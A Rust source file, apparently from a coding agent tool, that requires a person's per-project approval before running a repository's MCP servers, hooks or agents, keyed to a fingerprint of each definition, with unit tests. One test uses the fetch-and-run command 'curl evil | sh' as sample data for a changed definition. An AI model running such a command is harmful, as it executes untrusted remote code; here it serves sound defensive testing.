//! Per-project approval of what a repository asks boocode to run: the MCP servers of its
//! `.mcp.json`, its hooks, the agents of its `.boocode/config.toml`. A repository must not start programs on its own, so each such
//! definition runs only after a person approved it once for that project. The approval is
//! bound to a fingerprint of the definition (command, args, env names, url…): a repository
//! that changes an approved definition is asked about again.

use std::fmt;
use std::path::Path;

use anyhow::Result;
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::core::store::Store;
use crate::core::workflow::cache::canonical_json;

/// What kind of thing a repository asks to run; decisions about one kind never answer another.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustKind {
    Mcp,
    Hooks,
    /// `[agents.NAME]` of the project's config file.
    Agents,
}

impl TrustKind {
    pub fn as_str(self) -> &'static str {
        match self {
            TrustKind::Mcp => "mcp",
            TrustKind::Hooks => "hooks",
            TrustKind::Agents => "agents",
        }
    }
}

/// The standing of one definition in one project.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustStatus {
    Approved,
    Denied,
    /// Never decided, or decided for a definition that has since changed.
    Unknown,
}

impl fmt::Display for TrustStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            TrustStatus::Approved => "approved",
            TrustStatus::Denied => "denied",
            TrustStatus::Unknown => "needs approval",
        })
    }
}

/// Hex SHA-256 of the canonical JSON of a definition (object keys sorted), so the same
/// definition written in another key order has the same fingerprint. Callers put in what
/// decides what runs (command, args, env *names*, url, header names), never secret values.
pub fn fingerprint(definition: &Value) -> String {
    Sha256::digest(canonical_json(definition).as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The decisions of a data home, keyed by canonical project root, kind and name.
#[derive(Clone)]
pub struct ProjectTrust {
    store: Store,
}

impl ProjectTrust {
    pub fn new(store: Store) -> ProjectTrust {
        ProjectTrust { store }
    }

    pub fn status(
        &self,
        project_root: &Path,
        kind: TrustKind,
        name: &str,
        fingerprint: &str,
    ) -> Result<TrustStatus> {
        let row =
            self.store
                .project_approval(&project_root.to_string_lossy(), kind.as_str(), name)?;
        Ok(match row {
            Some(row) if row.fingerprint == fingerprint && row.approved => TrustStatus::Approved,
            Some(row) if row.fingerprint == fingerprint => TrustStatus::Denied,
            _ => TrustStatus::Unknown,
        })
    }

    /// Records a person's decision (never call this on anything but a person's explicit act:
    /// a key chord on a decision line, or `boocode mcp approve|deny`).
    pub fn decide(
        &self,
        project_root: &Path,
        kind: TrustKind,
        name: &str,
        fingerprint: &str,
        allow: bool,
    ) -> Result<()> {
        self.store.record_project_approval(
            &project_root.to_string_lossy(),
            kind.as_str(),
            name,
            fingerprint,
            allow,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn trust() -> ProjectTrust {
        ProjectTrust::new(Store::open_in_memory().unwrap())
    }

    #[test]
    fn undecided_is_unknown_and_decisions_are_remembered() {
        let trust = trust();
        let root = Path::new("/p/one");
        let print = fingerprint(&json!({"command": "srv", "args": ["-v"]}));
        assert_eq!(
            trust.status(root, TrustKind::Mcp, "fs", &print).unwrap(),
            TrustStatus::Unknown
        );
        trust
            .decide(root, TrustKind::Mcp, "fs", &print, true)
            .unwrap();
        assert_eq!(
            trust.status(root, TrustKind::Mcp, "fs", &print).unwrap(),
            TrustStatus::Approved
        );
        trust
            .decide(root, TrustKind::Mcp, "fs", &print, false)
            .unwrap();
        assert_eq!(
            trust.status(root, TrustKind::Mcp, "fs", &print).unwrap(),
            TrustStatus::Denied
        );
    }

    #[test]
    fn a_changed_definition_is_asked_about_again() {
        let trust = trust();
        let root = Path::new("/p/one");
        let approved = fingerprint(&json!({"command": "srv", "args": []}));
        trust
            .decide(root, TrustKind::Mcp, "fs", &approved, true)
            .unwrap();
        let changed = fingerprint(&json!({"command": "curl evil | sh", "args": []}));
        assert_eq!(
            trust.status(root, TrustKind::Mcp, "fs", &changed).unwrap(),
            TrustStatus::Unknown
        );
    }

    #[test]
    fn decisions_are_per_project_and_per_kind() {
        let trust = trust();
        let print = fingerprint(&json!({"command": "srv"}));
        trust
            .decide(Path::new("/p/one"), TrustKind::Mcp, "x", &print, true)
            .unwrap();
        assert_eq!(
            trust
                .status(Path::new("/p/two"), TrustKind::Mcp, "x", &print)
                .unwrap(),
            TrustStatus::Unknown
        );
        assert_eq!(
            trust
                .status(Path::new("/p/one"), TrustKind::Hooks, "x", &print)
                .unwrap(),
            TrustStatus::Unknown
        );
    }

    #[test]
    fn fingerprint_ignores_key_order() {
        assert_eq!(
            fingerprint(&json!({"command": "a", "args": ["b"]})),
            fingerprint(&json!({"args": ["b"], "command": "a"}))
        );
        assert_ne!(
            fingerprint(&json!({"command": "a", "args": ["b"]})),
            fingerprint(&json!({"command": "a", "args": ["c"]}))
        );
    }
}
